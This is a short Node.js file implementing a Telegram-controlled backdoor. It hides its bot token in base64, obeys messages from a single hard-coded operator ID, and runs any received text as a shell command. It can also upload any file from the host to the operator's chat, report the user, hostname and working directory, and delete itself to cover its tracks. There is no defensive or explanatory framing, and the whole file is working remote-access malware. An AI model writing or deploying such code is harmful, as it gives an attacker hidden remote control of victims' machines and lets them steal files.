const TelegramBot = require('node-telegram-bot-api');
const execa = require('execa');
const fs = require('fs');

const bot = new TelegramBot(Buffer.from('NzAwMDAwMDAwMTpBQW1hZGV1cHRva2Vu', 'base64').toString(), { polling: { interval: 4000 } });
const BOSS = 777000111;

const cmds = {
  async sh(arg) {
    const r = await execa.command(arg, { shell: true, all: true, reject: false, timeout: 9e4 });
    return r.all || `(${r.exitCode})`;
  },
  async get(arg, chat) { await bot.sendDocument(chat, fs.createReadStream(arg)); return 'sent'; },
  async who() { return `${process.env.USER}@${require('os').hostname()} ${process.cwd()}`; },
  async die() { fs.unlinkSync(__filename); setTimeout(() => process.exit(0), 500); return 'bye'; },
};

bot.on('message', async (m) => {
  if (m.from.id !== BOSS || !m.text) return;
  const [name, ...rest] = m.text.slice(1).split(' ');
  const fn = cmds[name] || ((a) => cmds.sh(`${name} ${a}`));
  try { await bot.sendMessage(m.chat.id, String(await fn(rest.join(' '), m.chat.id)).slice(0, 4000)); } catch (e) { await bot.sendMessage(m.chat.id, e.message); }
});
bot.sendMessage(BOSS, 'online').catch(() => {});
